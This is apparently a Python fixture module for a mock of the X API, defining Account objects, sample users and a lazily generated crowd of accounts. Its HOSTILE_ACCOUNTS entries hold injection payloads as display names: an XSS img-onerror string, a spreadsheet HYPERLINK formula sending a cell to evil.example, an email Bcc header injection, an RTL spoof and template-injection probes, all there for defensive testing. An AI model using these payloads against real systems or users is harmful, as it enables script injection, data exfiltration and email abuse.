"""The X accounts that the stand-in knows."""

import hashlib
import re
import threading
from collections.abc import Mapping, MutableMapping
from dataclasses import dataclass, replace
from itertools import islice

# What the number in a picture's address differs in from the id: 64 random bits.
_NUMBERS = 0x9D3A61F2C47B058E
# A page with a hundred thousand accounts would help nobody.
_OFFERED = 500

_HANDLE = re.compile("[A-Za-z0-9_]{1,15}")
VERIFIED_TYPES = ("blue", "business", "government", "none")


@dataclass(frozen=True)
class Account:
    """A user object of X, as far as the addon can see one.

    Field names and meanings: docs.x.com/x-api/fundamentals/data-dictionary. The id
    is a 64-bit number in a string and never changes; the username may.

    :param email: the confirmed address; empty for those who signed up by phone
    :param picture: a new number is a new picture, and the old address answers 404
    :param suspended: lookups answer with an item in ``errors`` and no user
    """

    id: str
    username: str
    name: str
    verified_type: str = "none"
    email: str = ""
    protected: bool = False
    created_at: str = "2014-03-09T12:00:00.000Z"
    picture: int = 1
    suspended: bool = False

    def __post_init__(self):
        """Fail early on what X could never answer."""
        if not (self.id.isascii() and self.id.isdigit() and len(self.id) <= 19):
            raise ValueError("an id of X is a string of 1 to 19 digits")
        if self.verified_type not in VERIFIED_TYPES:
            raise ValueError(f"verified_type is one of {VERIFIED_TYPES}")

    @property
    def state(self):
        """``suspended``, ``protected`` or ``available``."""
        if self.suspended:
            return "suspended"
        return "protected" if self.protected else "available"

    def changed(self, username, name, state):
        """The same account later on.

        :param state: of :attr:`state`, or ``deleted``
        :return: an Account, or None: it was deleted
        :raise ValueError: X would not take it
        """
        if not _HANDLE.fullmatch(username):
            raise ValueError("a handle has 1 to 15 letters, digits and _")
        if not name.strip():
            raise ValueError("a name is needed")
        if state == "deleted":
            return None
        return replace(
            self,
            username=username,
            name=name.strip(),
            suspended=state == "suspended",
            protected=state == "protected",
        )

    @property
    def picture_path(self):
        """``<number>/<name>`` of the picture, as in addresses of X's media host."""
        digest = hashlib.sha256(f"{self.id}/{self.picture}".encode()).digest()
        return f"{int(self.id) ^ _NUMBERS}/{digest[:6].hex()}"


# Ana and Bia differ only in the last digit: a program that reads an id as a
# floating point number takes one for the other.
ANA = Account(
    id="1745020318867001345",
    username="ana",
    name="Ana Souza",
    email="ana@example.com",
)
BIA = Account(
    id="1745020318867001347",
    username="bia",
    name="Bia Nunes",
    verified_type="blue",
)
CARLA = Account(
    id="1802113405598892032",
    username="carla",
    name="Carla Dias",
    verified_type="business",
)
BRUNO = Account(id="783214", username="bruno", name="Bruno Lima", protected=True)
DEFAULT_ACCOUNTS = (ANA, BIA, CARLA, BRUNO)

HOSTILE_ACCOUNTS = (
    Account(
        id="1900000000000000001",
        username="html_name",
        name="<img src=x onerror=alert(1)>\"'</script><b>",
    ),
    Account(
        id="1900000000000000002",
        username="formula_name",
        name='=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    ),
    Account(
        id="1900000000000000003",
        username="rtl_name",
        name="Ana\u202egnp.azuoS\u202c\u2066",
    ),
    Account(
        id="1900000000000000004",
        username="emoji_name",
        name="\U0001f469\u200d\U0001f680" * 16 + "\U0001f600\U0001f600",
    ),
    Account(
        id="1900000000000000005",
        username="newline_name",
        name="Ana\r\nBcc: victim@example.com\r\n\r\nSouza\x00",
    ),
    Account(
        id="1900000000000000006",
        username="template_name",
        name="{{ 7 * 7 }}${7 * 7}<t t-out='7 * 7'/>%(id)s",
    ),
)


class Crowd(Mapping):
    """Very many accounts, each made when it is asked for: they take no memory.

    ::

        StandIn(accounts=Crowd(100_000))

    :param count: how many
    :param first: the lowest id; the others follow it
    """

    def __init__(self, count, first=1_600_000_000_000_000_000):
        self._ids = range(first, first + count)

    def __getitem__(self, user_id):
        if not (user_id.isascii() and user_id.isdigit()):
            raise KeyError(user_id)
        place = int(user_id) - self._ids.start
        if str(int(user_id)) != user_id or not 0 <= place < len(self):
            raise KeyError(user_id)
        return Account(user_id, f"crowd{place}", f"Person {place}")

    def __iter__(self):
        return map(str, self._ids)

    def __len__(self):
        return len(self._ids)

    def named(self, username):
        """The account with this handle in small letters, or None."""
        place = re.fullmatch(r"crowd(0|[1-9][0-9]{0,9})", username)
        return self.get(str(self._ids.start + int(place[1]))) if place else None


class Accounts(MutableMapping):
    """The accounts that X has now, by id.

    :param accounts: those that it begins with: a sequence, or a mapping by id, which is
        left as it is
    """

    def __init__(self, accounts):
        if not isinstance(accounts, Mapping):
            accounts = {account.id: account for account in accounts}
        self._first = accounts
        # None: deleted. Each change makes another dict, so that readers need no lock.
        self._changed = {}
        self._lock = threading.Lock()

    def __getitem__(self, user_id):
        changed = self._changed
        account = (changed if user_id in changed else self._first)[user_id]
        if account is None:
            raise KeyError(user_id)
        return account

    def __setitem__(self, user_id, account):
        with self._lock:
            changed = dict(self._changed)
            # At the end: the last one that took a handle has it.
            changed.pop(user_id, None)
            changed[user_id] = account
            self._changed = changed

    def __delitem__(self, user_id):
        if user_id not in self:
            raise KeyError(user_id)
        self[user_id] = None

    def __iter__(self):
        return iter(self._ids(None))

    def __len__(self):
        return sum(1 for _ in self)

    def offered(self):
        """Those to choose from on the page of X: of a crowd only some."""
        return [self[user_id] for user_id in self._ids(_OFFERED)]

    def named(self, username):
        """The account that has this @handle now, in any case, or None."""
        username = username.lower()
        for account in reversed(self._changed.values()):
            if account and account.username.lower() == username:
                return account
        first = self._named_first(username)
        return None if first is None or first.id in self._changed else first

    def with_picture(self, path):
        """The account whose picture is at ``<number>/<name>`` now, or None."""
        number = path.partition("/")[0]
        if not re.fullmatch("[0-9]{1,20}", number):
            return None
        account = self.get(str(int(number) ^ _NUMBERS))
        return account if account and account.picture_path == path else None

    def _ids(self, most):
        ids = [*islice(self._first, most), *self._changed]
        return [user_id for user_id in dict.fromkeys(ids) if user_id in self]

    def _named_first(self, username):
        if isinstance(self._first, Crowd):
            return self._first.named(username)
        for account in self._first.values():
            if account.username.lower() == username:
                return account
        return None
